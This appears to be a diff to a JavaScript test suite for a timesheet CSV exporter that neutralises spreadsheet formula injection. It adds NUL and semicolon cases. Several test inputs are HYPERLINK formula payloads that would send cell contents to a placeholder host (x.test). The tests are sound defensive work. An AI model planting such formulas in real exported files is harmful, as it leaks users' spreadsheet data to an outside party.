@@ -12,8 +12,8 @@ describe('timesheet CSV (RFC 4180)', () => {
     expect(parse(line)).toEqual([['x', 'a,b', 'q"q', 'l1\r\nl2']]);
   });
 
-  it('should neutralize a cell a spreadsheet would run as a formula (OWASP: =, +, -, @, tab, CR)', () => {
-    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+  it('should neutralize a cell a spreadsheet would run as a formula (OWASP: =, +, -, @, tab, CR, NUL)', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) {
       const value = `${start}HYPERLINK("http://x.test/?"&A1,"pay")`;
       const cell = csvField(value);
       expect(cell.startsWith(`"'${start}`)).toBe(true);
@@ -24,6 +24,12 @@ describe('timesheet CSV (RFC 4180)', () => {
     expect(csvField('=1+2,3')).toBe(`"'=1+2,3"`);
     // the characters only count at the start
     expect(csvField('Sita =Devi')).toBe('Sita =Devi');
+    // a semicolon is quoted: a spreadsheet whose list separator it is would split the field
+    // there and run the part after it
+    expect(csvField('Ram;=HYPERLINK("http://x.test/?"&B2,"pay")')).toBe(
+      '"Ram;=HYPERLINK(""http://x.test/?""&B2,""pay"")"',
+    );
+    expect(parse(csvLine(['a;b', 'c']))).toEqual([['a;b', 'c']]);
     expect(csvField('2026-03-02')).toBe('2026-03-02');
   });
 
@@ -81,7 +87,7 @@ describe('timesheet CSV (RFC 4180)', () => {
       { name: 'Sita Devi', phone: '98100 00001' },
     );
     expect(row).toBe(
-      'w1,Sita Devi,98100 00001,2026-03-02,2026-03-02T22:00:00+05:30,,0.00,open_shift@3; fraud:outside_geofence@3,false,3 9\r\n',
+      'w1,Sita Devi,98100 00001,2026-03-02,2026-03-02T22:00:00+05:30,,0.00,"open_shift@3; fraud:outside_geofence@3",false,3 9\r\n',
     );
   });
 });
